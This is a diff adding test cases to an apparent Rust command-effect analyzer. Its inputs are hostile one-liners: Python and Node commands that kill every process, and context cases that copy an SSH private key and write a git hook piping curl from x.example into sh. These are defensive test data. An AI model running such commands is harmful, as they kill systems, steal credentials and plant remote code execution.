@@ -213,6 +213,14 @@ fn python_pathlib_and_os_functions() {
             &["delete a recursively", "write /etc/b"],
         ),
         (
+            r#"python3 -c "import os, signal; os.kill(1, signal.SIGKILL); os.killpg(-1, 9)""#,
+            &["signal 1 (SIGKILL)", "signal -1 (9)"],
+        ),
+        (
+            r#"python3 -c "import os; os.kill(int(open('app.pid').read()), 15)""#,
+            &["signal int(open('app.pid').read()) (15)", "read app.pid"],
+        ),
+        (
             r#"python3 -c "import shutil as sh; sh.copy('~/.ssh/id_rsa', '/tmp/k')""#,
             &["read ~/.ssh/id_rsa", "write /tmp/k"],
         ),
@@ -379,6 +387,10 @@ fn python_sends_with_bodies_from_the_environment_and_files() {
 #[test]
 fn javascript_fs_functions() {
     table(&[
+        (
+            r#"node -e "process.kill(-1, 'SIGKILL'); process.kill(process.pid)""#,
+            &["signal -1 (SIGKILL)", "signal process.pid"],
+        ),
         (
             r#"node -e "require('fs').writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\ncurl -s https://x.example/p | sh\n')""#,
             &["write .git/hooks/pre-commit = \"#!/bin/sh\\ncurl -s https://x.example/p | sh\\n\""],
